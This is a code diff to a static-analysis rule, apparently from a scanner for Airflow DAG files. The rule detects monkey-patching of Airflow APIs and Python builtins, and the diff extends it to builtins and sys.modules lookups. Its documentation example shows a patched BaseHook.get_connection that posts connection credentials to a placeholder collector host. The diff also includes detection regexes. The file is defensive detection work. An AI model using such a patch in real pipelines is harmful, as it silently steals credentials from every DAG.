@@ -10,25 +10,28 @@ export default defineRule({
     category: 'malicious',
     severity: 'critical',
     message: 'replaces `{target}` of Airflow itself{when}: every DAG and task in this process then runs the replacement',
-    messages: { setting: 'changes `{target}` of an Airflow operator class for the whole process{when}: subclass the operator instead' },
+    messages: {
+      setting: 'changes `{target}` of an Airflow operator class for the whole process{when}: subclass the operator instead',
+      builtins: 'replaces `{target}` of Python itself{when}: every DAG and task in this process then runs the replacement',
+    },
     docs: {
       what:
-        'Finds assignments to attributes of Airflow modules and classes — `BaseHook.get_connection = steal`, `Variable.get = …`, `airflow.settings.engine = …`, `setattr(BaseHook, "get_connection", f)` — wherever they are; *critical* at parse time (module level), *high* inside a function; *low* for operator class settings (`template_fields`, `template_ext`, `ui_color`…), which Airflow\'s own example DAGs patch (a subclass is the clean way).',
+        'Finds assignments to attributes of Airflow modules and classes — `BaseHook.get_connection = steal`, `Variable.get = …`, `airflow.settings.engine = …`, `setattr(BaseHook, "get_connection", f)`, `sys.modules["airflow.models"].Variable.get = …` — and to Python\'s builtins (`builtins.open = …`) wherever they are; *critical* at parse time (module level), *high* inside a function; *low* for operator class settings (`template_fields`, `template_ext`, `ui_color`…), which Airflow\'s own example DAGs patch (a subclass is the clean way).',
       why:
         'DAG files are imported into the dag-processor (and, in Airflow 2, the scheduler) process. Replacing an Airflow API there hooks every connection lookup, every Variable read and every task of every DAG parsed by that process afterwards: a credential stealer that no single DAG shows, and that outlives the file that installed it.',
       example: '```python\nfrom airflow.hooks.base import BaseHook\n_orig = BaseHook.get_connection\ndef _spy(conn_id):\n    c = _orig(conn_id)\n    requests.post("https://collector.example", json=c.to_dict())\n    return c\nBaseHook.get_connection = _spy\n```',
       useInstead: 'Subclass the hook or operator you need and use the subclass in your DAG; configure behaviour through Airflow\'s own settings (`airflow_local_settings.py` is deployed by the platform team, not by DAGs).',
     },
   },
-  // The assigned target resolves to `airflow.…` through an import, which spells the word.
-  keywords: ['airflow'],
+  // The assigned target resolves to `airflow.…` or `builtins.…` through an import, which spells the word.
+  keywords: ['airflow', 'builtins'],
   onFile(ctx) {
     // `X.y = …` anywhere on a line (chained and `;`-separated assignments too), text first: only a dotted target
     // whose head an import binds to airflow is looked up in the tree
     for (const m of ctx.file.text.matchAll(ATTRIBUTE_TARGET)) {
       const dotted = m[1];
       const head = dotted.slice(0, dotted.indexOf('.'));
-      if (!(ctx.imports.get(head) ?? ctx.aliases.get(head) ?? head).startsWith('airflow')) continue;
+      if (!/^(airflow|builtins|__builtins__)/.test(ctx.imports.get(head) ?? ctx.aliases.get(head) ?? head)) continue;
       const start = m.index! + m[0].indexOf(dotted);
       let n: SyntaxNode | null = ctx.root.descendantForIndex(start, start + dotted.length);
       while (n && n.type !== 'attribute' && n.startIndex === start && n.endIndex < start + dotted.length) n = n.parent;
@@ -36,6 +39,13 @@ export default defineRule({
       const a = n.parent;
       if (a?.type !== 'assignment' || a.childForFieldName('left')?.id !== n.id) continue;
       check(ctx, a, ctx.qualifiedName(n));
+    }
+    // sys.modules["airflow.models"].Variable.get = …: the module object fetched by name
+    for (const m of ctx.file.text.matchAll(SYS_MODULES_TARGET)) {
+      const at = ctx.root.descendantForIndex(m.index!, m.index! + 3);
+      let a: SyntaxNode | null = at;
+      while (a && a.type !== 'assignment' && !/_statement$|^(block|module)$/.test(a.type)) a = a.parent;
+      if (a?.type === 'assignment' && a.childForFieldName('left')?.startIndex === m.index) check(ctx, a, `${m[2]}${m[3]}`);
     }
     for (const { call } of ctx.findCalls(['builtins.setattr'])) {
       const [obj, name] = callArgs(call).positional;
@@ -46,6 +56,9 @@ export default defineRule({
   },
 });
 
+/** `sys.modules["airflow…"].attr… =`: an Airflow module fetched by name, then patched. */
+const SYS_MODULES_TARGET = /(?<![\w.])sys\s*\.\s*modules\s*\[\s*(['"])(airflow[\w.]*)\1\s*\]((?:\.[A-Za-z_]\w*)+)[ \t]*=(?!=)/g;
+
 /** A dotted assignment target, `Name.attr[.attr…] =` (not `==`): candidates, confirmed in the tree. */
 const ATTRIBUTE_TARGET = /(?<![\w.])([A-Za-z_]\w*(?:\.[A-Za-z_]\w*)+)[ \t]*=(?!=)/g;
 
@@ -53,9 +66,14 @@ const ATTRIBUTE_TARGET = /(?<![\w.])([A-Za-z_]\w*(?:\.[A-Za-z_]\w*)+)[ \t]*=(?!=
 const OPERATOR_SETTINGS = /\.(template_fields|template_ext|template_fields_renderers|ui_color|ui_fgcolor|operator_extra_links)$/;
 
 function check(ctx: RuleContext, node: SyntaxNode, target: string | null): void {
-  if (!target || !target.startsWith('airflow.')) return;
+  if (target?.startsWith('__builtins__.')) target = `builtins.${target.slice('__builtins__.'.length)}`;
+  if (!target || !(target.startsWith('airflow.') || target.startsWith('builtins.'))) return;
   const parse = ctx.isParseTime(node);
   const shown = target.split('.').slice(-2).join('.');
+  if (target.startsWith('builtins.')) {
+    ctx.report(node, { target: shown, when: parse ? ' while the DAG file is parsed' : '' }, { severity: parse ? 'critical' : 'high', message: 'builtins' });
+    return;
+  }
   if (OPERATOR_SETTINGS.test(target)) {
     // process-wide too, but configuration rather than behaviour: low (a subclass is the clean way)
     ctx.report(node, { target: shown, when: parse ? ' while the DAG file is parsed' : '' }, { severity: 'low', message: 'setting' });
